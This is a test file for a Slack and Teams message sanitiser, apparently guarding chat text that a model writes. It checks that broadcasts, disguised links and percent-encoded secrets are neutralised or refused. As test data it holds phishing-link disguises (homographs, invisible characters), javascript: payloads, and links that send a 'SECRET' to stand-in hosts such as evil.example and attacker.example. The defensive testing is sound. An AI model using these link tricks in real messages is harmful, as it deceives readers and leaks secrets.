// The chat content rules on their own: broadcast mentions in every spelling leave neutralised unless
// granted, the text keeps no raw control sequence it was not allowed, disguised links are refused.
import { ToolError } from '@mcp-fleet/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_USER_MENTIONS, prepareSlackText, prepareTeamsText } from '../src/content/chat-text.js';

const isUser = (id: string) => id === 'U0ALICE001';
const rules = { broadcast: false, maxChars: 4000, isUser };
const codeOf = (fn: () => unknown) => {
  try {
    fn();
    return 'ok';
  } catch (e) {
    return e instanceof ToolError ? e.code : 'thrown';
  }
};

/** Text without NUL or lone surrogates (core refuses those before any tool runs). */
const safeText = fc.string({ unit: 'grapheme', maxLength: 40 }).filter((s) => !s.includes('\u0000'));

/** Broadcasts as a model might write them. */
const broadcast = fc.constantFrom(
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!subteam^S0ONCALL01>',
  '<!subteam^S0ONCALL01|@oncall>',
  '<!here|here>',
  '<!channel|@channel>',
  '<!date^1392734382^{date}|x>',
  '@channel',
  '@here',
  '@everyone',
  '@Channel',
  '@HERE',
  '&lt;!channel&gt;',
  '&#60;!here&#62;',
);

/** What Slack would act on as a broadcast in text sent with parse=none. */
const RAW_BROADCAST = /<!(channel|here|everyone|subteam|date)|(^|[^\u2060])@(channel|here|everyone)\b/i;

describe('Slack text (THREATS C6)', () => {
  it('never lets a broadcast out unescaped without the broadcast grant, in any surrounding text', () => {
    fc.assert(
      fc.property(safeText, broadcast, safeText, (a, b, c) => {
        const out = prepareSlackText(`${a}${b}${c}`, rules);
        expect(out).not.toMatch(RAW_BROADCAST);
        // No `<…>` control sequence survives except links and real-user mentions.
        for (const m of out.matchAll(/<([^>]*)>/g)) expect(m[1]).toMatch(/^(@U0ALICE001|https?:|mailto:|#C)/);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps exactly the granted broadcast forms when the grant allows broadcasts', () => {
    const out = prepareSlackText('<!here> <!subteam^S0ONCALL01> <!date^1^{date}^https://x.example|d>', {
      ...rules,
      broadcast: true,
    });
    expect(out).toBe('<!here> <!subteam^S0ONCALL01> &lt;!date^1^{date}^https://x.example|d&gt;');
  });

  it('escapes &, < and > so Slack shows the text as written', () => {
    expect(prepareSlackText('a < b && c > d', rules)).toBe('a &lt; b &amp;&amp; c &gt; d');
    expect(prepareSlackText('<javascript:alert(1)|click>', rules)).toBe('&lt;javascript:alert(1)|click&gt;');
  });

  it('lets real users be mentioned and refuses mentions of anyone else', () => {
    expect(prepareSlackText('ping <@U0ALICE001>', rules)).toBe('ping <@U0ALICE001>');
    expect(codeOf(() => prepareSlackText('ping <@U0CEO99999>', rules))).toBe('content_refused');
    expect(prepareSlackText('<@U0ALICE001|ceo>', rules)).toBe('&lt;@U0ALICE001|ceo&gt;');
  });

  it('refuses link text that names a different host, in every disguise', () => {
    const disguised = [
      '<https://evil.example/?d=SECRET|https://intranet.example.com/login>',
      '<https://evil.example|intranet.example.com>',
      '<https://evil.example|www.example.com>',
      '<https://evil.example|Log in at intranet.example.com now>',
      '<https://evil.example|ｉｎｔｒａｎｅｔ．ｅｘａｍｐｌｅ．ｃｏｍ>',
      '<https://evil.example|intranet。example。com>',
      '<https://xn--80ak6aa92e.com|аpple.com>',
      '<https://evil.example|hxxps://localhost>',
      '<mailto:attacker@evil.example|ceo@example.com>',
    ];
    for (const t of disguised)
      expect(
        codeOf(() => prepareSlackText(t, rules)),
        t,
      ).toBe('disguised_link');
    expect(prepareSlackText('<https://www.github.com/x|github.com>', rules)).toBe(
      '<https://www.github.com/x|github.com>',
    );
    expect(prepareSlackText('<https://status.example.com|status page>', rules)).toBe(
      '<https://status.example.com|status page>',
    );
    expect(codeOf(() => prepareSlackText('<https://user:pw@evil.example|x>', rules))).toBe('content_refused');
  });

  it('refuses texts above the cap', () => {
    expect(codeOf(() => prepareSlackText('x'.repeat(41), { ...rules, maxChars: 40 }))).toBe(
      'content_too_long',
    );
    expect(codeOf(() => prepareSlackText('x'.repeat(40), { ...rules, maxChars: 40 }))).toBe('ok');
    // Escaping may not push the text past Slack's own 40,000-character limit.
    expect(codeOf(() => prepareSlackText('&'.repeat(10_000), { ...rules, maxChars: 40_000 }))).toBe(
      'content_too_long',
    );
  });
});

describe('Teams text', () => {
  it('neutralises broadcasts and mention tags and refuses disguised markdown links', () => {
    fc.assert(
      fc.property(safeText, broadcast, safeText, (a, b, c) => {
        const out = prepareTeamsText(`${a}${b}${c}`, { maxChars: 4000 });
        expect(out).not.toMatch(RAW_BROADCAST);
      }),
      { numRuns: 300 },
    );
    expect(prepareTeamsText('<at>ceo</at>', { maxChars: 100 })).not.toContain('<at>');
    expect(
      codeOf(() =>
        prepareTeamsText('[https://intranet.example.com](https://evil.example)', { maxChars: 100 }),
      ),
    ).toBe('disguised_link');
    for (const t of [
      '[[intranet.example.com]](https://evil.example)',
      '[intranet.example.com](https://evil.example "title")',
      '[intranet.example.com]( <https://evil.example> )',
      '[click](javascript:alert(1))',
      '![status](https://attacker.example/p.png?d=SECRET)',
    ])
      expect(
        codeOf(() => prepareTeamsText(t, { maxChars: 100 })),
        t,
      ).not.toBe('ok');
    expect(codeOf(() => prepareTeamsText('[status](https://status.example.com)', { maxChars: 100 }))).toBe(
      'ok',
    );
  });
});

/** Characters a reader does not see, or takes for nothing (attack round 1: ZWSP, soft hyphen, CGJ…). */
const invisible = fc.constantFrom(
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\u00ad',
  '\u034f',
  '\ufe0f',
  '\u180e',
  '\u061c',
  '\u200e',
  '\u2063',
  '\ufeff',
  '\u0301',
  '\u20dd',
);
/** Look-alike dots a reader takes for `.`. */
const dot = fc.constantFrom('.', '\u3002', '\uff0e', '\uff61', '\u2024', '\ufe52');
/** Hosts a disguise imitates, and the places links really go. */
const looksLike = fc.constantFrom('intranet.example.com', 'example.com', 'login.example.com', 'github.com');
const realTarget = fc.constantFrom(
  'https://evil.example/x',
  'https://attacker.example',
  'http://e.example/?d=1',
);

/** An allowed-looking host with invisible characters inserted and its dots replaced by look-alikes. */
const disguisedLabel = fc
  .tuple(looksLike, fc.array(fc.tuple(fc.nat(), invisible), { minLength: 1, maxLength: 4 }), dot, safeText)
  .map(([host, inserts, d, tail]) => {
    let h = host.replaceAll('.', d);
    for (const [at, x] of inserts) {
      const i = at % (h.length + 1);
      h = h.slice(0, i) + x + h.slice(i);
    }
    return `${h}/login ${tail.replace(/[<>|[\]()]/g, '')}`;
  });

describe('disguised links with invisible or look-alike characters (attack round 1)', () => {
  it('refuses every label that reads as another host, in Slack and Teams', () => {
    fc.assert(
      fc.property(disguisedLabel, realTarget, (label, url) => {
        expect(
          codeOf(() => prepareSlackText(`see <${url}|${label}>`, rules)),
          label,
        ).toBe('disguised_link');
        expect(
          codeOf(() => prepareTeamsText(`see [${label}](${url})`, { maxChars: 4000 })),
          label,
        ).toBe('disguised_link');
      }),
      { numRuns: 400 },
    );
  });

  it('refuses the reported examples', () => {
    for (const t of [
      '<https://evil.example|intranet\u200b.example\u200b.com/login>',
      '<https://evil.example|example\u00ad.com>',
      '<https://evil.example|ex\u034fample.c\u034fom>',
    ])
      expect(
        codeOf(() => prepareSlackText(t, rules)),
        t,
      ).toBe('disguised_link');
    expect(
      codeOf(() =>
        prepareTeamsText('[intranet\u200b.example\u200b.com/login](https://evil.example/x)', {
          maxChars: 999,
        }),
      ),
    ).toBe('disguised_link');
  });

  it('refuses link targets whose host is not plain ASCII as written (IDN homographs, encodings)', () => {
    const targets = fc.constantFrom(
      'https://іntranet.example.com/login', // Cyrillic і
      'https://xn--ntranet-qog.example.com/login',
      'https://ｅｘａｍｐｌｅ.com/',
      'https://%65vil.example/',
      'https://example.com\u3002evil.example/',
      'https://example.com.:443/',
      'https://examp\u200ble.com/',
    );
    fc.assert(
      fc.property(targets, fc.boolean(), (url, sameLabel) => {
        const label = sameLabel ? url.replace(/^https:\/\//, '') : 'report';
        expect(
          codeOf(() => prepareSlackText(`<${url}|${label}>`, rules)),
          url,
        ).toBe('disguised_link');
        expect(
          codeOf(() => prepareTeamsText(`[${label}](${url})`, { maxChars: 999 })),
          url,
        ).toBe('disguised_link');
      }),
    );
  });

  it('refuses percent-encoded letters and digits in link targets (they would hide a secret from the scan)', () => {
    for (const url of [
      'https://x.example/?d=sk%5Flive%5Fabc',
      'https://x.example/%41KIA',
      'https://x.example/a%2Eb',
    ])
      expect(
        codeOf(() => prepareSlackText(`<${url}|report>`, rules)),
        url,
      ).toBe('content_refused');
    expect(prepareSlackText('<https://x.example/a%20b?q=%26|report>', rules)).toBe(
      '<https://x.example/a%20b?q=%26|report>',
    );
  });

  it('still posts honest links and labels with ordinary non-ASCII text', () => {
    for (const t of [
      '<https://status.example.com|Statusseite für Kunden>',
      '<https://example.com/docs|example.com/docs>',
      '<https://www.example.com|café menu>',
    ])
      expect(
        codeOf(() => prepareSlackText(t, rules)),
        t,
      ).toBe('ok');
  });
});

describe('many user mentions are a broadcast (attack round 1)', () => {
  const everyone = Array.from({ length: 12 }, (_, i) => `U0USER${String(i).padStart(4, '0')}`);
  const anyUser = (id: string) => everyone.includes(id);
  it('refuses more than MAX_USER_MENTIONS distinct mentions without the broadcast grant', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.constantFrom(...everyone), { minLength: 1, maxLength: 12 }),
        safeText,
        (ids, sep) => {
          const t = ids.map((id) => `<@${id}>`).join(sep.replace(/[<>]/g, '') || ' ');
          const code = codeOf(() => prepareSlackText(t, { ...rules, isUser: anyUser }));
          expect(code, t).toBe(ids.length > MAX_USER_MENTIONS ? 'content_refused' : 'ok');
          expect(codeOf(() => prepareSlackText(t, { ...rules, broadcast: true, isUser: anyUser }))).toBe(
            'ok',
          );
        },
      ),
    );
    // Repeating one mention is not a broadcast.
    expect(codeOf(() => prepareSlackText('<@U0USER0001> '.repeat(20), { ...rules, isUser: anyUser }))).toBe(
      'ok',
    );
  });
});
